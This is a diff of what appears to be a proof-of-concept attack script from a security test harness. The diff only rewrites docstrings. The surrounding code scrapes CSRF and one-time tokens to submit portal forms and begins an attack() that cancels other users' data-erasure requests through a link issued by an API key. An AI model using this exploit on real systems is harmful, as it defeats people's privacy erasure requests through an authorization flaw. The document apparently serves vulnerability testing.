@@ -1,4 +1,4 @@
-"""Whoever holds a link to the portal ends what others asked for: an erasure that an officer verified, or opened."""
+"""The holder of a portal link ends what others asked for: an erasure that an officer verified, or opened."""
 
 from __future__ import annotations
 
@@ -22,7 +22,7 @@ ONCE = re.compile(r'name="once" value="([^"]+)"')
 
 
 class Browser:
-    """Pages and forms of the portal, with its cookies."""
+    """A browser of the portal's pages and forms, with its cookies."""
 
     def __init__(self, target: Target) -> None:
         self.url = target.url
@@ -33,7 +33,7 @@ class Browser:
         return self._sent(urllib.request.Request(self.url + path))
 
     def post(self, path: str, page: str) -> str:
-        """The form of `page`, with its token and its number."""
+        """Send the form of `page`, with its token and its number."""
         found = TOKEN.search(page)
         once = ONCE.search(page)
         form = {"csrfmiddlewaretoken": found.group(1) if found else ""} | ({"once": once.group(1)} if once else {})
@@ -49,7 +49,7 @@ class Browser:
 
 
 def attack(target: Target) -> Outcome:
-    """Requests of an officer, one verified, and of a key; each is to be cancelled from a link that the key issued."""
+    """Cancel, from a link that a key issued, requests of an officer (one of them verified) and of a key."""
     name = f"ana-{secrets.token_hex(6)}"
     body = {"messages": [{"role": "user", "content": "I like tea."}], "user_id": name, "infer": False}
     target.call("POST", "/v3/memories/add/", body)
